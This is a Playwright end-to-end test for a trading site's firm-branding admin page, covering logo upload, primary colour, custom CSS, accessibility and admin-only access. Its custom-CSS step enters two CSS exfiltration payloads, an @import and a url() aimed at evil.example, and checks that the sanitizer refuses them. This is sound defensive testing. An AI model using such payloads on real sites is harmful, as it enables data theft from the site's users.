"""A firm's admin brands the firm in Chromium: uploads a logo (a malformed image and one
too large are refused with the gateway's words), changes the primary colour and writes
custom CSS, and the trader's site changes (checked on screenshot pixels); CSS with
``@import url(https://…)`` is refused naming the rule. Accessible, wide and at 390 px; a
trader opening /admin/firm gets the not-found page."""

from __future__ import annotations

import io
import re

from PIL import Image
from playwright.sync_api import Browser, Page, expect

from gateway.uploads import MAX_IMAGE_BYTES
from tests.gateway.conftest import Gateway

from .conftest import (
    NARROW,
    WIDE,
    assert_accessible,
    dominant_colour,
    log_in,
    no_console_errors,
    shoot,
    site,
    watched,
)

PRIMARY = "#b4121b"
HEADER = "#fde68a"  # light: the nav's dark text keeps its contrast


def png(size: tuple[int, int] = (120, 40), colour: tuple[int, int, int] = (20, 120, 60)
        ) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return out.getvalue()


def upload(page: Page, label: str, name: str, data: bytes) -> None:
    page.get_by_label(label, exact=True).set_input_files(
        {"name": name, "mimeType": "image/png", "buffer": data})


def test_admin_brands_the_firm_and_the_traders_site_changes(
        gateway: Gateway, page: Page, browser: Browser) -> None:
    gateway.verified_user("boss@firm.test")
    gateway.promote("boss@firm.test", "admin")
    gateway.verified_user("tia@trader.test")
    base = site(gateway)
    log_in(page, base, "boss@firm.test")
    page.get_by_role("link", name="Admin").click()
    expect(page.get_by_role("heading", name="Firm settings").first).to_be_visible()
    assert_accessible(page, "/admin/firm")

    # the logo: a malformed image, then one too large, then a good one
    upload(page, "Logo", "broken.png", png()[:40])
    expect(page.get_by_role("alert").filter(has_text="cannot be read")).to_be_visible()
    upload(page, "Logo", "huge.png", b"\x89PNG\r\n\x1a\n" + bytes(MAX_IMAGE_BYTES))
    expect(page.get_by_role("alert").filter(has_text=f"at most {MAX_IMAGE_BYTES}")
           ).to_be_visible()
    upload(page, "Logo", "logo.png", png())
    expect(page.get_by_text("Uploaded.")).to_be_visible()
    logo = page.get_by_test_id("firm-name").locator("img")
    expect(logo).to_have_attribute("src", re.compile(r"^/brand/logo\.png\?v=[0-9a-f]+$"))

    # the primary colour: a bad one is named at once, a good one saved
    primary = page.get_by_label("Primary colour", exact=True)
    primary.fill("red")
    expect(page.get_by_text("a colour as #rrggbb")).to_be_visible()
    primary.fill(PRIMARY)
    # the preview takes the colour as it is typed
    sample = page.frame_locator("[data-testid=css-preview]").get_by_role("button",
                                                                          name="Sign up")
    expect(sample).to_have_css("background-color", "rgb(180, 18, 27)")
    page.get_by_role("button", name="Save settings").click()
    expect(page.get_by_text("Saved.", exact=True)).to_be_visible()
    # this page takes the new theme too (its stylesheet is loaded again)
    expect(page.get_by_role("button", name="Save settings")).to_have_css(
        "background-color", "rgb(180, 18, 27)")

    # custom CSS: an @import is refused naming the rule, and cannot be saved
    editor = page.get_by_label("The firm's own CSS")
    editor.fill("@import url(https://evil.example/steal.css);\nheader { color: red }")
    expect(page.get_by_text("refused by the rule 'import'")).to_be_visible()
    expect(page.get_by_role("button", name="Save CSS")).to_be_disabled()
    editor.fill("a { color: red }\nbody { background: url(https://evil.example/?leak) }")
    expect(page.get_by_text("refused by the rule 'url'")).to_be_visible()
    css = f"#root > div > header {{ background: {HEADER}; }}"
    editor.fill(css)
    save = page.get_by_role("button", name="Save CSS")
    expect(save).to_be_enabled()
    # the preview (a sandboxed frame, no scripts) shows the checked CSS
    preview = page.locator("[data-testid=css-preview]")
    expect(preview).to_have_attribute("sandbox", "")
    header = page.frame_locator("[data-testid=css-preview]").locator("header")
    expect(header).to_have_css("background-color", "rgb(253, 230, 138)")
    save.click()
    expect(page.get_by_text("Saved: the firm's pages use it now.")).to_be_visible()
    no_console_errors(page)
    shoot(page, "admin-firm-wide")

    page.set_viewport_size(NARROW)
    page.reload()
    expect(page.get_by_role("heading", name="Custom CSS")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    expect(header).to_have_css("background-color", "rgb(253, 230, 138)")  # stored CSS
    preview.scroll_into_view_if_needed()
    assert dominant_colour(header.screenshot()) == HEADER  # as the screen shows it
    assert_accessible(page, "/admin/firm at 390 px")
    shoot(page, "admin-firm-narrow")
    page.set_viewport_size(WIDE)

    # the trader's site, in a fresh browser: the new colour, the CSS and the logo
    context = browser.new_context(viewport=WIDE, locale="en-US", timezone_id="UTC")
    try:
        visitor = watched(context.new_page())
        visitor.goto(base + "/programs")
        button = visitor.get_by_role("link", name="Sign up")
        expect(button).to_be_visible()
        assert dominant_colour(button.screenshot()) == PRIMARY
        top = visitor.locator("#root > div > header")
        assert dominant_colour(top.screenshot()) == HEADER
        expect(visitor.get_by_test_id("firm-name").locator("img")).to_be_visible()
        no_console_errors(visitor)
        shoot(visitor, "admin-firm-traders-site")
        # a trader opening the admin page gets the not-found page
        log_in(visitor, base, "tia@trader.test")
        expect(visitor.get_by_role("link", name="Admin")).to_have_count(0)
        visitor.goto(base + "/admin/firm")
        expect(visitor.get_by_role("heading", name="Firm settings")).to_have_count(0)
        expect(visitor.get_by_text("not found", exact=False).first).to_be_visible()
    finally:
        context.close()
